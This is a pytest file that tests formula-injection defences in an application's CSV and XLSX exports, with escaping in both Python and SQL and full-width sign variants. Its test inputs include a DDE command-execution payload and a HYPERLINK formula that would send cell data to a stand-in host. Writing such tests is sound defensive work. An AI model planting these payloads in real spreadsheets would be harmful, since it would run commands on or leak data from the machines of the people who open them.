"""No cell of a file that we make is a formula where it is opened, whoever chose the text in it."""

from collections.abc import Callable
from io import BytesIO
from zipfile import ZipFile

import pytest
from python_calamine import load_workbook
from sqlalchemy import text
from starlette.testclient import TestClient

from core import clock
from core.auth.models import User
from core.db import transaction
from core.exports.asking import Asked
from core.exports.copying import FORMULA_SIGNS as IN_THE_DATABASE
from core.exports.copying import harmless as harmless_sql
from core.exports.csv_text import FORMULA_SIGNS, harmless
from core.exports.running import make_next, start
from core.principal import SYSTEM
from tests.core.documents.steps import set_up_company
from tests.core.orders import steps
from tests.factories import make_partner, make_product, make_user, principal_of

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
"""The last four are those of East Asian keyboards, which spreadsheets there read alike."""


@pytest.mark.parametrize("sign", SIGNS)
def test_what_begins_like_a_formula_is_made_a_text(database: str, sign: str) -> None:
    cell = f"{sign}cmd|' /C calc'!A0"
    assert harmless(cell) == f"'{cell}"
    with transaction(SYSTEM) as session:
        made = session.scalar(text(f"select {harmless_sql('cast(:cell as text)')}"), {"cell": cell})
    assert made == f"'{cell}"


def test_both_writers_know_the_same_signs() -> None:
    assert set(FORMULA_SIGNS) == set(IN_THE_DATABASE) == set(SIGNS)


@pytest.mark.parametrize("sign", ["=", "+", "@", "＝"])
def test_a_partner_cannot_have_staff_open_a_formula(
    client: TestClient, sign_in: Callable[[User], None], database: str, sign: str
) -> None:
    """What a partner's people type (a reference, a note) in the tables that staff take out."""
    set_up_company()
    evil = f'{sign}HYPERLINK("http://x.example?"&A1;"look")'
    partner = make_partner(name=evil)
    me = principal_of(make_user(partner, name=evil))
    order = steps.order(me, {make_product(stock=5, name=evil).id: 2})
    with transaction(SYSTEM) as session:
        session.execute(text("update orders set reference = :evil where id = :id"), {"evil": evil, "id": order})
    columns = ("order", "partner", "reference")
    staff = make_user()
    sign_in(staff)
    with transaction(principal_of(staff)) as session:
        runs = [start(session, Asked("orders", columns), form, clock.now()) for form in ("csv", "xlsx")]
    while make_next(clock.now()):
        pass
    said, book = (client.get(f"/exports/files/{run}").content for run in runs)
    quoted = evil.replace('"', '""')
    assert said.decode().count(f"\"'{quoted}") == 2
    cells = [cell for row in load_workbook(BytesIO(book)).get_sheet_by_index(0).to_python() for cell in row]
    assert cells.count(evil) == 2
    with ZipFile(BytesIO(book)) as parts:
        assert not [
            name for name in parts.namelist() if b"<f>" in parts.read(name) and b"HYPERLINK" in parts.read(name)
        ]
